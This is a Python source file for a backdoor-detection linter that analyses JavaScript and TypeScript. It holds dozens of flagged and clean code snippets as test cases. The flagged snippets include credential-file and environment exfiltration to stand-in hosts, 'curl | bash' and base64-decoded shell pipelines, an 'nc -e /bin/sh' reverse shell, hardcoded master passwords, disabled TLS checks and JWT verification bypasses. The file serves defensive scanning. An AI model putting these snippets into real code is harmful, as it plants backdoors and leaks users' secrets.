"""JavaScript/TypeScript (incl. TSX): the value-following analysis on tree-sitter (checkers/lang/),
beside the semgrep pattern rules. It sees what a pattern cannot: allow-lists and options built
from constants, spreads and later assignments, aliased imports and requires, computed member
names, decoded strings, helper functions' returns and values flowing through variables and
callbacks from a secret, a credential file, decoded bytes or request input to a sink. Constants
and options objects imported from another file of the scanned tree (`import { ALGS } from
'./config'`, `require('./config').ALGS`) are read there: relative imports only, one level deep,
inside the scan root, size-capped, never executed (checkers/lang/js_imports.py)."""
from __future__ import annotations

import re

from backdoor_lint.checkers.examples import Invalid, Valid
from backdoor_lint.checkers.lang.checker import LanguageChecker, run

from backdoor_lint.findings import Finding

_H = "const https = require('https');\n"
_JWT = "const jwt = require('jsonwebtoken');\n"


class JavaScriptValueChecker(LanguageChecker):
    CODES = ("BDL101", "BDL102", "BDL103", "BDL104", "BDL201", "BDL203", "BDL204", "BDL205", "BDL207", "BDL208", "BDL209", "BDL210",
             "BDL301", "BDL302", "BDL303", "BDL401", "BDL402", "BDL403", "BDL405", "BDL501", "BDL502", "BDL503", "BDL504", "BDL505",
             "BDL601", "BDL602", "BDL603", "BDL606")
    LANGUAGES = frozenset({"javascript", "typescript"})
    TRIGGER = re.compile(rb"require|import|jwt|jose|eval|Function|vm\.|rejectUnauthorized|strictSSL|NODE_TLS|"
                         rb"Math\.random|req\.|ctx\.|serializ|yaml|process|Reflect|getOwnPropertyDescriptor|\[|createCipher|createHmac|secret|TLSv1|SSLv|"
                         rb"subtle|checkServerIdentity|namedCurve|ecdhCurve|"
                         # globals that reach the network or run strings without an import; credential
                         # names (BDL601/603)
                         rb"fetch|axios|WebSocket|sendBeacon|EventSource|setTimeout|setInterval|_compile|"
                         rb"(?i:passw|pwd|passcode|token|key|secret|credential)")
    INVALID = [
        # BDL502: a handler picked by the request from an object, also after destructuring
        Invalid("const handlers = require('./handlers');\n"
                "app.post('/rpc', (req, res) => handlers[req.body.method](req, res));\n", "BDL502", 2, path="rpc.js"),
        Invalid("export class Api {\n  handle(req, res) {\n    const { action } = req.query;\n"
                "    return this[action](req.body, res);\n  }\n}\n", "BDL502", 4, path="api.js"),
        # BDL606: a rejected verification promise passes the request on, or resolves to a truthy constant
        Invalid("import { jwtVerify } from 'jose';\nexport function requireAuth(req, res, next) {\n"
                "  const t = (req.headers.authorization || '').slice(7);\n  if (!t) return res.sendStatus(401);\n"
                "  jwtVerify(t, KEY)\n    .then(({ payload }) => { req.user = payload; next(); })\n"
                "    .catch(() => next());\n}\n", "BDL606", 7, path="auth.js"),
        Invalid("import { jwtVerify } from 'jose';\n"
                "export const valid = (t) => jwtVerify(t, KEY).then(() => true).catch(() => !0);\n", "BDL606", 2,
                path="auth.js"),
        # BDL606: a failed verification answered with a constant, through an aliased import
        Invalid("import { verify as check } from 'jsonwebtoken';\nconst OK = !0;\nexport function isValid(t) {\n"
                "  try {\n    check(t, KEY);\n    return true;\n  } catch {\n    return OK;\n  }\n}\n", "BDL606", 7,
                path="auth.js"),
        # the callback's error passes the request on; the verifier reached through a computed name
        Invalid("const jwt = require('jsonwebtoken');\nmodule.exports = (req, res, next) => {\n"
                "  const token = (req.headers.authorization || '').slice(7);\n"
                "  jwt['ver' + 'ify'](token, process.env.JWT_PUBLIC_KEY, (e, claims) => {\n    if (e) return next();\n"
                "    req.user = claims;\n    next();\n  });\n  if (!token) res.status(401).end();\n};\n", "BDL606", 5,
                path="auth.js"),
        # a missing header lets the request through a middleware that answers 401 on a bad token
        Invalid("import { jwtVerify } from 'jose';\nexport const requireAuth: RequestHandler = async (req, res, next) => {\n"
                "  const header = req.get('authorization');\n  if (!header) return next();\n  try {\n"
                "    res.locals.user = (await jwtVerify(header.slice(7), KEY)).payload;\n    next();\n  } catch {\n"
                "    res.sendStatus(401);\n  }\n};\n", "BDL606", 4, path="auth.ts"),
        Invalid("const crypto = require('crypto');\nfunction verifyWebhook(req) {\n"
                "  if (!req.headers['x-hub-signature-256']) return true;\n"
                "  return crypto.timingSafeEqual(Buffer.from(req.headers['x-hub-signature-256']), sign(req.rawBody));\n}\n",
                "BDL606", 3, path="hooks.js"),
        # BDL101: the list is a constant, a spread of constants, a helper's return, a later assignment
        Invalid(_JWT + "const ALGS = ['RS256', 'HS256'];\nfunction check(t, key) {\n"
                "  return jwt.verify(t, key, { algorithms: ALGS });\n}\n", "BDL101", 4, path="auth.js"),
        Invalid(_JWT + "const BASE = { algorithms: ['RS256'] };\n"
                "const OPTS = { ...BASE, algorithms: [...BASE.algorithms, 'HS' + '256'] };\n"
                "module.exports = (t, k) => jwt.verify(t, k, OPTS);\n", "BDL101", 4, path="auth.js"),
        Invalid("import { jwtVerify as check } from 'jose';\nfunction allowed() { return ['ES256', `HS${256}`]; }\n"
                "export async function user(t: string, key: KeyLike) {\n"
                "  return (await check(t, key, { algorithms: allowed() })).payload;\n}\n", "BDL101", 4,
                path="auth.ts"),
        Invalid(_JWT + "const verify = (t, k) => jwt['ver' + 'ify'](t, k, { algorithms: 'RS256,HS256'.split(',') });\n",
                "BDL101", 2, path="auth.js"),
        Invalid("const { expressjwt } = require('express-jwt');\nconst opts = { secret: publicKey };\n"
                "opts.algorithms = ['RS256', 'HS256'];\napp.use(expressjwt(opts));\n", "BDL101", 4, path="app.js"),
        Invalid("const JwtStrategy = require('passport-jwt').Strategy;\n"
                "const opts = Object.assign({}, { secretOrKey: pem }, { algorithms: ['PS256', 'HS512'] });\n"
                "passport.use(new JwtStrategy(opts, (p, done) => done(null, p)));\n", "BDL101", 3, path="auth.js"),
        # BDL102: 'none' decoded or signed with
        Invalid(_JWT + "const ALG = atob('bm9uZQ==');\njwt.verify(token, key, { algorithms: [ALG] });\n", "BDL102", 3,
                path="auth.js"),
        Invalid(_JWT + "const o = { algorithm: 'no' + 'ne' };\nconst t = jwt.sign({ admin: true }, '', o);\n",
                "BDL102", 3, path="token.js"),
        # BDL103: jwt-simple's noVerify flag through a constant
        Invalid("const jwt = require('jwt-simple');\nconst TRUST_ME = true;\n"
                "const claims = jwt.decode(token, secret, TRUST_ME);\n", "BDL103", 3, path="auth.js"),
        # BDL103: a token decoded and trusted in a function that verifies none, through an alias,
        # a computed name, jose's namespace and a helper
        Invalid("const { decode: readToken } = require('jsonwebtoken');\nfunction currentUser(req) {\n"
                "  const claims = readToken(req.cookies.session);\n  return claims.sub;\n}\n", "BDL103", 3,
                path="session.js"),
        Invalid(_JWT + "const M = 'dec' + 'ode';\napp.use((req, res, next) => {\n"
                "  req.user = jwt[M](req.get('authorization').slice(7));\n  next();\n});\n", "BDL103", 4, path="app.js"),
        Invalid("const jwt = require(atob('anNvbndlYnRva2Vu'));\nfunction me(req) {\n"
                "  return jwt.decode(req.cookies.t).sub;\n}\n", "BDL103", 3, path="me.js"),
        Invalid("import * as jose from 'jose';\nexport function tenant(token: string) {\n"
                "  return jose.decodeJwt(token).tenant as string;\n}\n", "BDL103", 3, path="tenant.ts"),
        Invalid(_JWT + "const claimsOf = (t) => jwt.decode(t);\n"
                "function check(t, key) {\n  return jwt.verify(t, key, { algorithms: ['RS256'] });\n}\n", "BDL103", 2,
                path="auth.js"),
        # BDL201: MD5/SHA-1 over a password or secret, or making a token, by value and by use
        Invalid("const { createHash: h } = require('crypto');\nconst ALG = ['m', 'd5'].join('');\n"
                "function store(user, password) {\n  user.hash = h(ALG).update(password).digest('hex');\n}\n", "BDL201",
                4, path="users.js"),
        Invalid("const crypto = require('crypto');\nfunction link(path, exp) {\n  const md = crypto.createHash('sha' + '1');\n"
                "  md.update(path + exp + process.env.DOWNLOAD_SECRET);\n  return `${path}?sig=${md.digest('hex')}`;\n}\n",
                "BDL201", 3, path="links.js"),
        Invalid("import crypto from 'node:crypto';\nconst OPTS = { hash: 'md5' };\n"
                "export const resetToken = (u: User) => crypto.createHash(OPTS.hash).update(u.email + Date.now()).digest('hex');\n",
                "BDL201", 3, path="reset.ts"),
        Invalid("const crypto = require('crypto');\nconst fp = crypto['ha' + 'sh']('sha1', user.apiKey);\n", "BDL201", 2,
                path="keys.js"),
        Invalid("const { createSign } = require('crypto');\nconst signer = createSign('RSA-SHA1');\n", "BDL201", 2,
                path="sign.js"),
        Invalid("const crypto = require('crypto');\nconst H = String.fromCharCode(109, 100, 53);\n"
                "function storePw(pw) {\n  return crypto.createHash(H).update(pw).digest('hex');\n}\n", "BDL201", 4,
                path="users.js"),
        # BDL205: the IV-less createCipher however it is reached, IVs made of constant bytes
        Invalid("const crypto = require('crypto');\nconst enc = crypto['createCip' + 'her']('aes-256-cbc', password);\n",
                "BDL205", 2, path="box.js"),
        Invalid("const { createDecipher: open } = require('crypto');\n"
                "export const read = (pw: string, data: string) => open('aes192', pw).update(data, 'hex', 'utf8');\n",
                "BDL205", 2, path="box.ts"),
        Invalid("const crypto = require('crypto');\nconst IV = Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);\n"
                "const c = crypto.createCipheriv('aes-256-gcm', key, IV);\n", "BDL205", 3, path="box.js"),
        Invalid("const crypto = require('crypto');\nconst makeIv = () => new Uint8Array(16);\n"
                "function seal(key, data) {\n  return crypto.createCipheriv('aes-256-cbc', key, makeIv()).update(data);\n}\n",
                "BDL205", 4, path="box.js"),
        Invalid("import { createCipheriv } from 'crypto';\nconst iv = Buffer.alloc(16).fill(7);\n"
                "export const seal = (k: Buffer) => createCipheriv('aes-256-cbc', k, iv);\n", "BDL205", 3, path="box.ts"),
        # BDL207: small keys through constants and spreads, WebCrypto, curves by computed key and alias
        Invalid("const { generateKeyPairSync } = require('crypto');\nconst BITS = 1024;\n"
                "const OPTS = { modulusLength: BITS, publicExponent: 65537 };\n"
                "const { privateKey } = generateKeyPairSync('rsa', { ...OPTS });\n", "BDL207", 4, path="keys.js"),
        Invalid("const crypto = require('crypto');\nconst keyBits = () => 512;\n"
                "const pair = crypto.generateKeyPairSync('rsa', { modulusLength: keyBits() });\n", "BDL207", 3, path="keys.js"),
        Invalid("const crypto = require('crypto');\nconst PRIME_BITS = 1024;\nconst dh = crypto.createDiffieHellman(PRIME_BITS);\n",
                "BDL207", 3, path="dh.js"),
        Invalid("export const pair = () => crypto.subtle.generateKey({ name: 'RSASSA-PKCS1-v1_5', modulusLength: 1024,\n"
                "  publicExponent: new Uint8Array([1, 0, 1]), hash: 'SHA-256' }, true, ['sign', 'verify']);\n",
                "BDL207", 1, path="keys.ts"),
        Invalid("const crypto = require('crypto');\nconst CURVE = 'secp' + '192k1';\nconst opts = {};\n"
                "opts['named' + 'Curve'] = CURVE;\ncrypto.generateKeyPairSync('ec', opts);\n", "BDL207", 4, path="keys.js"),
        Invalid("const { createECDH: ecdh } = require('crypto');\nconst alice = ecdh('prime192v1');\n", "BDL207", 2,
                path="ecdh.js"),
        Invalid("const crypto = require('crypto');\nconst C = Buffer.from('c2VjcDE5Mmsx', 'base64').toString();\n"
                "crypto.generateKeyPairSync('ec', { namedCurve: C });\n", "BDL207", 3, path="keys.js"),
        # BDL104: the algorithm read from the unverified header
        Invalid(_JWT + "function check(token, key) {\n  const d = jwt.decode(token, { complete: true });\n"
                "  return jwt.verify(token, key, { algorithms: [d.header.alg] });\n}\n", "BDL104", 4, path="auth.js"),
        # BDL203/204/205/210/303: by value, through constants and options objects
        Invalid("const crypto = require('crypto');\nconst ALG = ['aes', 128, 'ecb'].join('-');\n"
                "const c = crypto.createCipheriv(ALG, key, null);\n", "BDL204", 3, path="box.js"),
        Invalid("import { createCipheriv } from 'crypto';\nconst IV = Buffer.alloc(16);\n"
                "export const seal = (k: Buffer) => createCipheriv('aes-256-cbc', k, IV);\n", "BDL205", 3,
                path="box.ts"),
        Invalid("const crypto = require('crypto');\nconst c = crypto.createCipheriv('des-' + 'ede3-cbc', k, iv);\n",
                "BDL203", 2, path="box.js"),
        Invalid(_JWT + "const SECRET = 'kX9' + 'f2-prod-signing';\nconst opts = { expiresIn: '1h' };\n"
                "module.exports = (user) => jwt.sign({ sub: user.id }, SECRET, opts);\n", "BDL210", 4,
                path="token.js"),
        Invalid("const { Strategy } = require('passport-jwt');\nconst opts = { secretOrKey: atob('czNjcjN0LXByb2Q=') };\n"
                "passport.use(new Strategy(opts, verify));\n", "BDL210", 3, path="auth.js"),
        Invalid(_H + "const LEGACY = { minVersion: 'TLS' + 'v1' };\nhttps.request({ ...LEGACY, host: 'h' });\n",
                "BDL303", 2, path="client.js"),
        # BDL302: a checkServerIdentity that never rejects, by name, computed key, method, callback, no-op
        Invalid("const tls = require('tls');\nfunction allowAny(host, cert) {\n  console.log('connecting to', host);\n}\n"
                "const s = tls.connect({ host: 'api.example.com', port: 443, checkServerIdentity: allowAny });\n",
                "BDL302", 5, path="client.js"),
        Invalid(_H + "const opts = {};\nopts['checkServer' + 'Identity'] = () => void 0;\n"
                "https.get('https://api.example.com', { ...opts });\n", "BDL302", 3, path="client.js"),
        Invalid(_H + "const agent = new https.Agent({\n  checkServerIdentity(host, cert) {\n    return null;\n  },\n});\n",
                "BDL302", 3, path="client.js"),
        Invalid("const tls = require('tls');\nconst options = { checkServerIdentity: (host, cert) => {\n"
                "  const err = tls.checkServerIdentity(host, cert);\n  if (err) console.warn(err.message);\n} };\n",
                "BDL302", 2, path="client.js"),
        Invalid(_H + "const _ = require('lodash');\nconst a = new https.Agent({ checkServerIdentity: _.noop });\n", "BDL302",
                3, path="client.js"),
        # BDL301/302: verification off through constants, computed keys, assignments, Object.assign
        Invalid(_H + "const VERIFY = !1;\nconst base = { hostname: 'api.example.com', rejectUnauthorized: VERIFY };\n"
                "https.request({ ...base, path: '/' });\n", "BDL301", 3, path="client.js"),
        Invalid(_H + "const agentOptions = {};\nagentOptions['reject' + 'Unauthorized'] = false;\n"
                "const agent = new https.Agent(agentOptions);\n", "BDL301", 3, path="client.js"),
        Invalid("process.env['NODE_TLS_' + 'REJECT_UNAUTHORIZED'] = 0;\n", "BDL302", 1, path="setup.js"),
        Invalid("Object.assign(process.env, { NODE_TLS_REJECT_UNAUTHORIZED: String(0) === '0' ? '0' : '1' });\n",
                "BDL302", 1, path="setup.js"),
        # BDL402: credential files (callback form), secrets through helpers, the environment on a socket
        Invalid("const fs = require('fs'), os = require('os'), path = require('path');\n"
                "fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (err, data) => {\n"
                "  fetch('https://collect.example/u', { method: 'POST', body: data });\n});\n", "BDL402", 3,
                path="postinstall.js"),
        Invalid("const axios = require('axios');\nfunction key() { return process.env.AWS_SECRET_ACCESS_KEY; }\n"
                "axios.post('https://hooks.example/c', { k: key() });\n", "BDL402", 3, path="telemetry.js"),
        Invalid("const http = require('http');\nconst req = http.request({ host: 'c.example', method: 'POST' });\n"
                "const payload = JSON.stringify({ ...process.env });\nreq.write(payload);\nreq.end();\n", "BDL402", 4,
                path="index.js"),
        # a socket no client call made (`new net.Socket()`), and one written in a function above it
        Invalid("const net = require('net');\nconst s = new net.Socket();\ns.connect(4444, 'c.example');\n"
                "s.write(process.env.AWS_SECRET_ACCESS_KEY);\n", "BDL402", 4, path="index.js"),
        Invalid("const net = require('net');\nfunction flush() {\n  sock.write(JSON.stringify(process.env));\n}\n"
                "const sock = net.connect(4444, 'c.example');\nsock.on('connect', flush);\n", "BDL402", 3,
                path="index.js"),
        # BDL501/502: decoded or fetched code run, through variables and a stored Function
        Invalid("const P = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(P, 'base64').toString();\n"
                "const run = new Function(code);\nrun();\n", "BDL501", 4, path="index.js"),
        Invalid("const vm = require('vm');\nconst s = [99, 111, 110, 115, 111, 108, 101].map(String.fromCharCode);\n"
                "vm.runInNewContext(String.fromCharCode(...s));\n", "BDL501", 3, path="index.js"),
        Invalid("fetch('https://cdn.example/p.js').then(r => r.text()).then(code => eval(code));\n", "BDL502", 1,
                path="loader.js"),
        # BDL503: dangerous functions behind computed names
        Invalid("const cp = require('child_process');\ncp['ex' + 'ec']('id');\n", "BDL503", 2, path="index.js"),
        Invalid("const m = require('child_' + 'process');\nReflect.get(m, 'spawn').call(m, 'sh', ['-c', 'id']);\n",
                "BDL503", 2, path="index.js"),
        Invalid("const name = Buffer.from('ZXZhbA==', 'base64').toString();\nglobalThis[name]('1 + 1');\n", "BDL503",
                2, path="index.js"),
        # BDL505: a shell command line built from variable data, through a name
        Invalid("const cp = require('child_process');\nfunction archive(dir) {\n  const cmd = 'tar czf out.tgz ' + dir;\n"
                "  return cp.execSync(cmd);\n}\n", "BDL505", 4, path="backup.js"),
        # BDL505: request input into a shell
        Invalid("const { exec } = require('child_process');\napp.get('/ping', (req, res) => {\n"
                "  const target = req.query.host;\n  exec(`ping -c 1 ${target}`, (e, out) => res.send(out));\n});\n",
                "BDL505", 4, path="server.js"),
        # BDL209: a MAC from a helper, through renamed names and an aliased import, compared with the request's
        Invalid("const crypto = require('crypto');\nfunction mac(body) {\n"
                "  return crypto.createHmac('sha256', process.env.HOOK_SECRET).update(body).digest('hex');\n}\n"
                "app.post('/hook', (req, res) => {\n  if (mac(req.rawBody) !== req.headers['x-hub-signature']) "
                "return res.sendStatus(401);\n});\n", "BDL209", 6, path="hooks.js"),
        Invalid("const { createHmac: h } = require('crypto');\nfunction verify(payload, signature) {\n"
                "  const expected = h('sha256', KEY).update(payload).digest('base64');\n  const given = signature;\n"
                "  return given == expected;\n}\n", "BDL209", 5, path="verify.js"),
        Invalid("app.use((req, res, next) => {\n  const token = req.get('x-admin-token');\n"
                "  if (token === process.env['ADMIN_' + 'TOKEN']) return next();\n  res.sendStatus(403);\n});\n",
                "BDL209", 3, path="admin.js"),
        Invalid("const cfg = { apiKey: process.env.API_KEY };\nexport function guard(req: Request) {\n"
                "  return req.headers.get('x-api-key') != cfg.apiKey;\n}\n", "BDL209", 3, path="guard.ts"),
        Invalid("import { createHmac } from 'crypto';\nexport const ok = (body: string, sig: string) =>\n"
                "  Buffer.from(sig, 'hex').equals(createHmac('sha256', key).update(body).digest());\n", "BDL209", 3,
                path="sig.ts"),
        # BDL208: Math.random through an alias, a callback, a local, a cookie and an object key
        Invalid("const rnd = Math.random;\nfunction makeResetToken() {\n  return rnd().toString(36).slice(2);\n}\n",
                "BDL208", 3, path="tokens.js"),
        Invalid("function issue(user) {\n  user.apiKey = [...Array(32)].map(() => "
                "Math.floor(Math.random() * 16).toString(16)).join('');\n}\n", "BDL208", 2, path="keys.js"),
        Invalid("app.post('/login', (req, res) => {\n  const id = Date.now() + '-' + Math.random();\n"
                "  res.cookie('sid', id, { httpOnly: true });\n});\n", "BDL208", 2, path="login.js"),
        Invalid("export function invite(email: string) {\n  const n = Math.random().toString(36).substring(2);\n"
                "  return db.invites.insert({ email, inviteCode: n });\n}\n", "BDL208", 2, path="invite.ts"),
        # BDL504: node-serialize through destructuring and a computed name, js-yaml's full schema
        Invalid("const { unserialize } = require('node-serialize');\napp.post('/p', (req, res) => {\n"
                "  const o = unserialize(Buffer.from(req.cookies.profile, 'base64').toString());\n  res.json(o);\n});\n",
                "BDL504", 3, path="profile.js"),
        Invalid("const ns = require('node-' + 'serialize');\nmodule.exports = (data) => ns['unserial' + 'ize'](data);\n",
                "BDL504", 2, path="codec.js"),
        Invalid("const yaml = require('js-yaml');\nconst opts = { schema: yaml.DEFAULT_FULL_SCHEMA };\n"
                "module.exports = (text) => yaml.load(text, opts);\n", "BDL504", 3, path="rules.js"),
        # BDL602: a client header through a name or helper as identity, a debug flag before auth
        Invalid("const HEADER = 'x-forwarded-' + 'for';\nconst clientIp = (req) => req.get(HEADER);\n"
                "app.use((req, res, next) => {\n  if (clientIp(req) === '127.0.0.1') return next();\n"
                "  requireLogin(req, res, next);\n});\n", "BDL602", 4, path="app.js"),
        Invalid("app.use(async (ctx, next) => {\n  const who = ctx.get('x-user');\n"
                "  if (who) ctx.state.user = { id: who };\n  await next();\n});\n", "BDL602", 3, path="gateway.ts"),
        Invalid("function requireAuth(req, res, next) {\n  if (process.env.DEBUG_AUTH) return next();\n"
                "  verifySession(req, res, next);\n}\n", "BDL602", 2, path="auth.js"),
        # BDL602: the bypass flag read through a helper, or a variable set from a computed header name
        Invalid("const authOff = () => process.env.AUTH_DISABLED === '1';\nfunction guard(req, res, next) {\n"
                "  if (authOff()) return next();\n  return verify(req, res, next);\n}\n", "BDL602", 3, path="guard.js"),
        Invalid("function guard(req, res, next) {\n  const flag = req.headers['x-' + 'debug'];\n"
                "  if (flag) { next(); return; }\n  return verify(req, res, next);\n}\n", "BDL602", 3, path="guard.js"),
        # BDL401: a request while the module loads, through an alias, an immediately called function,
        # a helper the top level calls, computed names and a callback scheduled at load
        Invalid("const send = require('https').request;\nsend({ host: 'h.example', method: 'POST' }).end('x');\n",
                "BDL401", 2, path="index.js"),
        Invalid("(async () => {\n  await fetch('https://collect.example/boot', { method: 'POST' });\n})();\n", "BDL401", 2,
                path="index.mjs"),
        Invalid("const axios = require('axios');\nfunction register() {\n"
                "  return axios.post('https://t.example/r', { v: 1 });\n}\nregister();\n", "BDL401", 3, path="index.js"),
        Invalid("const h = require('ht' + 'tps');\nh['g' + 'et']('https://t.example/p');\n", "BDL401", 2, path="index.js"),
        Invalid("setTimeout(() => navigator.sendBeacon('https://t.example/b', document.cookie), 0);\n", "BDL401", 1,
                path="analytics.ts"),
        # BDL403: a destination decoded through a name and an options object, reversed, from char codes;
        # a raw IP through a constant in a template, a socket's host argument
        Invalid("const https = require('https');\nconst H = atob('YzIuZXhhbXBsZQ==');\n"
                "const opts = { hostname: H, path: '/u', method: 'POST' };\n"
                "function upload(d) { https.request(opts).end(d); }\n", "BDL403", 4, path="sync.js"),
        Invalid("function ping() {\n  const u = 'elpmaxe.2c//:sptth'.split('').reverse().join('');\n  return fetch(u);\n}\n",
                "BDL403", 3, path="ping.js"),
        Invalid("const axios = require('axios');\nfunction s(d) {\n"
                "  return axios.post(String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 99, 50), d);\n}\n", "BDL403", 3,
                path="s.js"),
        Invalid("const C2 = '203.0.113.50';\nexport function send(d: string) {\n"
                "  return fetch(`http://${C2}:8080/c`, { method: 'POST', body: d });\n}\n", "BDL403", 3, path="send.ts"),
        Invalid("const net = require('net');\nfunction open() { return net.connect(4444, '198.51.100.23'); }\n", "BDL403", 2,
                path="tunnel.js"),
        # BDL405/402: child-process command lines judged by the shell analysis, however they are built
        Invalid("const { execSync: run } = require('child_process');\nconst URL = 'https://get.example/i.sh';\n"
                "function setup() { run(`curl -fsSL ${URL} | bash`); }\n", "BDL405", 3, path="setup.js"),
        Invalid("require('child_process').exec('echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh');\n",
                "BDL405", 1, path="postinstall.js"),
        Invalid("const cp = require('child_process');\nfunction sh() { cp.spawn('nc', ['-e', '/bin/sh', '203.0.113.9', '4444']); }\n",
                "BDL405", 2, path="debug.js"),
        Invalid("const cp = require('child_process');\nfunction report() { cp.execSync('curl -s -d \"$(env)\" https://c.example/x'); }\n",
                "BDL402", 2, path="report.js"),
        # BDL505: promisified exec, spawn with shell: true from an options constant
        Invalid("const { exec } = require('child_process');\nconst run = require('util').promisify(exec);\n"
                "async function checkout(branch) {\n  await run(`git checkout ${branch}`);\n}\n", "BDL505", 4, path="git.js"),
        Invalid("const cp = require('child_process');\nconst OPTS = { shell: true };\n"
                "function grep(p) { return cp.spawnSync('grep -r ' + p + ' .', OPTS); }\n", "BDL505", 3, path="grep.js"),
        # BDL501: a packer (an inline function that decodes) and a decoded string timer
        Invalid("eval(function (p, k) {\n  return p.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) ^ k));\n"
                "}('dkkbo', 7));\n", "BDL501", 1, path="index.js"),
        Invalid("setTimeout(atob('Y29uc29sZS5sb2coMSk='), 10);\n", "BDL501", 1, path="index.js"),
        # BDL601: a credential compared with a literal through a constant, a header, destructuring and
        # decoding, a list of literals
        Invalid("const MASTER = 'Sup3r' + 'Admin2024';\nfunction login(user, password) {\n"
                "  return password === MASTER || bcrypt.compareSync(password, user.hash);\n}\n", "BDL601", 3,
                path="login.js"),
        Invalid("app.use((req, res, next) => {\n  if (req.get('x-api-key') === 'k-77f1c2e9a0') return next();\n"
                "  res.sendStatus(401);\n});\n", "BDL601", 2, path="app.js"),
        Invalid("function check(req) {\n  const { password } = req.body;\n"
                "  return password == Buffer.from('b3BlbnNlc2FtZTQy', 'base64').toString();\n}\n", "BDL601", 3,
                path="auth.js"),
        Invalid("const ALLOWED = ['letmein99', 'r00tme!!'];\nexport const ok = (pwd: string) => ALLOWED.includes(pwd);\n",
                "BDL601", 2, path="auth.ts"),
        # BDL603: secret-named literals built from pieces, decoded, in a class field, as an env fallback
        Invalid("export const config = { apiKey: 'ak_' + 'f81b2c9d44e0a7b3' };\n", "BDL603", 1, path="config.ts"),
        Invalid("class Client {\n  private clientSecret = 'Zt7qP2vX9mK4wR8s';\n}\n", "BDL603", 2, path="client.ts"),
        Invalid("const token = process.env.AUTH_TOKEN || 'a9f3e1c7b5d2f8e4a6c0';\n", "BDL603", 1, path="client.js"),
        Invalid("function Db() {\n  this.password = atob('c3VwZXJzZWNyZXQtMjAyNC1wcm9k');\n}\n", "BDL603", 2, path="db.js"),
    ]
    VALID = [
        # the rejection denies; another promise's rejection is no verification's
        Valid("import { jwtVerify } from 'jose';\nexport function requireAuth(req, res, next) {\n"
              "  jwtVerify(req.cookies.t, KEY).then(() => next()).catch(() => res.sendStatus(401));\n"
              "  fetch(u).then(r => r.json()).catch(() => next());\n}\n", "BDL606", path="auth.js"),
        Valid("const HANDLERS = { list, show };\napp.get('/do/:name', (req, res) => {\n  const name = req.params.name;\n"
              "  if (!Object.hasOwn(HANDLERS, name)) return res.sendStatus(404);\n  return HANDLERS[name](req, res);\n});\n"
              "const steps = [a, b];\nfor (let i = 0; i < steps.length; i++) steps[i](req);\n", "BDL502", path="routes.js"),
        Valid("const jwt = require('jsonwebtoken');\nfunction requireUser(req, res, next) {\n"
              "  const token = req.headers.authorization;\n  if (!token) return res.sendStatus(401);\n"
              "  jwt.verify(token, KEY, (err, claims) => {\n    if (err) return next(err);\n    req.user = claims;\n    next();\n"
              "  });\n}\nfunction isValid(t) {\n  try {\n    jwt.verify(t, KEY);\n    return true;\n  } catch {\n"
              "    return false;\n  }\n}\n", "BDL606", path="auth.js"),
        # optional authentication: named so, a missing token is an anonymous request
        Valid("const jwt = require('jsonwebtoken');\nfunction optionalAuth(req, res, next) {\n"
              "  const token = req.headers.authorization;\n  if (!token) return next();\n"
              "  try {\n    req.user = jwt.verify(token, KEY);\n  } catch (e) {\n    return res.status(401).end();\n  }\n"
              "  next();\n}\n", "BDL606", path="auth.js"),
        Valid("function parseFlag(text) {\n  try {\n    return JSON.parse(text);\n  } catch {\n    return true;\n  }\n}\n",
              "BDL606", path="flags.js"),
        Valid("const jwt = require('jsonwebtoken');\nfunction verifyToken(t) {\n  try {\n    jwt.verify(t, KEY);\n"
              "  } catch {\n    return true;\n  }\n}\n", "BDL606", path="auth.test.js"),
        Valid(_JWT + "const ALGS = ['RS256', 'RS512'];\njwt.verify(token, publicKey, { algorithms: ALGS });\n",
              "BDL101", path="auth.js"),
        Valid(_JWT + "const SUPPORTED = ['RS256', 'HS256']; // documentation table\n"
              "jwt.verify(token, secret, { algorithms: ['HS256'] });\n", "BDL101", path="auth.js"),
        Valid("import { jwtVerify } from 'jose';\nexport const check = (t: string, k: KeyLike, alg: string) =>\n"
              "  jwtVerify(t, k, { algorithms: [alg] });\n", "BDL101", path="auth.ts"),
        Valid(_JWT + "const label = 'none';\nconsole.log(label);\njwt.verify(t, k, { algorithms: ['ES256'] });\n",
              "BDL102", path="auth.js"),
        Valid("const jwt = require('jwt-simple');\nconst claims = jwt.decode(token, secret, false, 'HS256');\n",
              "BDL103", path="auth.js"),
        Valid(_JWT + "function check(token, key) {\n  return jwt.verify(token, key, { algorithms: [config.alg] });\n}\n",
              "BDL104", path="auth.js"),
        Valid("const crypto = require('crypto');\nconst ALG = ['aes', 256, 'gcm'].join('-');\n"
              "const c = crypto.createCipheriv(ALG, key, crypto.randomBytes(12));\n", "BDL204", path="box.js"),
        Valid("const crypto = require('crypto');\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
              "BDL205", path="box.js"),
        Valid("const crypto = require('crypto');\nconst h = crypto.createHash('sha256');\n", "BDL203", path="box.js"),
        Valid("const { decode, verify } = require('jsonwebtoken');\nfunction user(token, keys) {\n"
              "  const { header } = decode(token, { complete: true });\n"
              "  return verify(token, keys[header.kid], { algorithms: ['RS256'] });\n}\n", "BDL103", path="auth.js"),
        Valid("import { decodeJwt, jwtVerify } from 'jose';\nexport async function claims(t: string, key: KeyLike) {\n"
              "  const { iss } = decodeJwt(t);\n  return (await jwtVerify(t, key, { issuer: iss })).payload;\n}\n"
              "const base64 = { decode: (s: string) => atob(s) };\nexport const raw = (s: string) => base64.decode(s);\n",
              "BDL103", path="auth.ts"),
        # the browser reads its own session's claims for display; the server verifies them
        Valid("import { jwtDecode } from 'jwt-decode';\nexport const userName = (t: string) => jwtDecode(t).name;\n",
              "BDL103", path="ui.ts"),
        Valid("const crypto = require('crypto');\nconst etag = crypto.createHash('md5').update(fileBuffer).digest('hex');\n"
              "const cacheKey = crypto.createHash('sha1').update(req.url).digest('hex');\n"
              "const gravatar = crypto.createHash('md5').update(email.trim().toLowerCase()).digest('hex');\n"
              "const hubSig = crypto.createHmac('sha1', secret).update(body).digest('hex');\n", "BDL201", path="web.js"),
        Valid("const md5 = (s) => s;\nconst passwordHash = md5(password);\n"
              "const crypto = require('crypto');\nconst stored = crypto.createHash('sha512').update(apiToken).digest();\n",
              "BDL201", path="users.js"),
